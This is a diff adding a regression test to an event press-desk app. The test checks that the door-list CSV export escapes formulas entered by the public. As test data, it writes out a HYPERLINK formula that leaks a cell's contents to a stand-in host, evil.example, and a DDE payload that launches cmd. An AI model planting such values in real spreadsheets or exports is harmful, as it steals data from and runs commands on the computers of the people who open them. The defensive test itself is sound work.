@@ -1,6 +1,7 @@
 """The press desk: a reporter asks for accreditation, organisers approve in the admin, the
 reporter hears by e-mail, the door list names who comes in; the coverage board by week."""
 
+import csv
 import datetime
 import io
 
@@ -360,3 +361,29 @@ def test_admin_numbers_too_long_for_the_database_are_not_found(client, make_even
         assert client.get(f"/admin/events/{number}/door-list/?format=csv").status_code == 404
         assert client.get(f"/admin/events/accreditations/{number}/photo/").status_code == 404
     assert client.get(f"/admin/events/{2**63 - 1}/door-list/").status_code == 404
+
+
+def test_door_list_csv_keeps_formulas_typed_by_the_public_as_text(client, make_event, organiser):
+    """A reporter's name like =HYPERLINK(…) ran as a formula when the organiser opened the CSV."""
+    event = make_event("Họp báo công thức")
+    Accreditation.objects.create(
+        event=event,
+        reporter_name='=HYPERLINK("http://evil.example/?"&C3,"Bấm")',
+        outlet="-2+3",
+        press_card_number="AB-1",
+        email="pv@example.invalid",
+        phone="0912 345 678",
+        status=A.APPROVED,
+    )
+    Registration.objects.create(
+        event=event,
+        name="@SUM(1+1)",
+        email="k@example.invalid",
+        organisation="+cmd|' /C calc'!A0",
+        status="confirmed",
+    )
+    client.force_login(organiser)
+    body = client.get(f"/admin/events/{event.pk}/door-list/?format=csv").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body)))
+    assert rows[1][2:4] == ['\'=HYPERLINK("http://evil.example/?"&C3,"Bấm")', "'-2+3"]
+    assert rows[2][2:4] == ["'@SUM(1+1)", "'+cmd|' /C calc'!A0"]
